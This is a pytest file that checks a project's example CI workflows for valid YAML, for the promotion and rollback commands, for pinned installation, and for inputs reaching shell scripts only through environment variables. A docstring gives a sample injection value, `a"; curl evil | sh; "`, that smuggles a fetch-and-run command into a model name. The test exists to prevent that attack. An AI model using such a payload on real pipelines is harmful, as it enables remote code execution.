"""The CI examples are valid YAML and call the promotion gate the way docs/promote.md says."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "ci"


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
def test_ci_example(name):
    text = (EXAMPLES / name).read_text()
    assert isinstance(yaml.safe_load(text), dict)
    for needle in ("bridge promote", "--junit", "--output json", "bridge rollback", "[promote]"):
        assert needle in text, needle


def _scripts(doc) -> list[str]:
    """Every shell script of a GitHub workflow (`run:`) or GitLab job (`script:` ...)."""
    found = []
    if isinstance(doc, dict):
        for key, value in doc.items():
            if key == "run" and isinstance(value, str):
                found.append(value)
            elif key in ("script", "before_script", "after_script"):
                found.extend(value if isinstance(value, list) else [value])
            else:
                found.extend(_scripts(value))
    elif isinstance(doc, list):
        for item in doc:
            found.extend(_scripts(item))
    return found


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
def test_inputs_reach_the_shell_only_through_env(name):
    """`${{ inputs.x }}` inside `run:` is pasted into the script before the shell sees it: a
    model name like `a"; curl evil | sh; "` would run. Through env it is only data."""
    scripts = _scripts(yaml.safe_load((EXAMPLES / name).read_text()))
    assert scripts
    for script in scripts:
        assert "${{" not in script, script


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
def test_bridge_is_installed_pinned_from_its_repository(name):
    """No `pip install mlflow-kubeflow-bridge` from an index it is not published on: the
    repository at a pinned tag, with its constraints.txt."""
    text = (EXAMPLES / name).read_text()
    installs = [s for s in _scripts(yaml.safe_load(text)) if "pip install" in s]
    assert installs
    for script in installs:
        assert "-c .bridge/constraints.txt" in script and "./.bridge" in script, script
    assert "BRIDGE_REF: v0.1.0" in text
